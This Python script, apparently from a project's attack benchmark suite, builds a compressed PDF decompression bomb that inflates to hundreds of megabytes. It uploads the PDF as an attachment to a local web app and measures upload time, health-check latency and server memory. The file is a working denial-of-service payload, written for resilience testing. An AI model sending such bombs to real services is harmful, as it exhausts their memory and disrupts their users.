#!/usr/bin/env python3
"""Issue 14, item 1: a small PDF whose pages share one compressed content stream of text
operators that inflates to hundreds of megabytes. Uploads it as a resource attachment and
reports how long the upload took, /healthz latency meanwhile, and the server's peak memory.

    python3 bench/attacks/pdf_bomb.py http://127.0.0.1:8080 RESOURCE_ID [--mib 200] [--pid PID]

Sign-in uses a demo account (`serve --demo`) that may edit the resource (default
jelena@astra.example.org). The PDF text extraction runs in a child process, so read the
children's peak memory too: `--pid` reports VmHWM of the server only.
"""
import argparse
import time
import zlib

from common import HealthProbe, csrf_of, peak_rss_mib, session


def bomb(mib, pages=8, word=b"Zorblaxword"):
    op = b"(" + word + b") Tj "
    chunk = op * (1024 * 1024 // len(op))
    z = zlib.compressobj(9)
    body = [z.compress(b"BT /F1 12 Tf 72 720 Td ")]
    for _ in range(mib):
        body.append(z.compress(chunk))
    body.append(z.compress(b"ET"))
    body.append(z.flush())
    stream = b"".join(body)
    kids = " ".join(f"{5 + i} 0 R" for i in range(pages))
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n".encode() + stream
        + b"\nendstream",
    ] + [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
         b"/Resources << /Font << /F1 3 0 R >> >> >>"] * pages
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for i, o in enumerate(objs):
        offsets.append(len(out))
        out += f"{i + 1} 0 obj\n".encode() + o + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    for o in offsets:
        out += f"{o:010} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("base")
    ap.add_argument("resource")
    ap.add_argument("--mib", type=int, default=200)
    ap.add_argument("--email", default="jelena@astra.example.org")
    ap.add_argument("--pid", type=int)
    a = ap.parse_args()
    pdf = bomb(a.mib)
    print(f"PDF: {len(pdf) / 1024:.0f} KiB, 8 pages sharing {a.mib} MiB of text operators")
    s = session(a.base, a.email)
    token = csrf_of(s, a.base, f"/en/resources/{a.resource}")
    with HealthProbe(a.base) as probe:
        t = time.monotonic()
        r = s.post(f"{a.base}/en/resources/{a.resource}/attachments?lang=en",
                   files=[("csrf", (None, token)), ("file", ("bomb.pdf", pdf, "application/pdf"))],
                   allow_redirects=False, timeout=600)
        took = time.monotonic() - t
    print(f"upload: {r.status_code} in {took:.1f} s")
    print(probe.report())
    rss = peak_rss_mib(a.pid)
    if rss:
        print(f"server peak RSS: {rss:.0f} MiB")


if __name__ == "__main__":
    main()
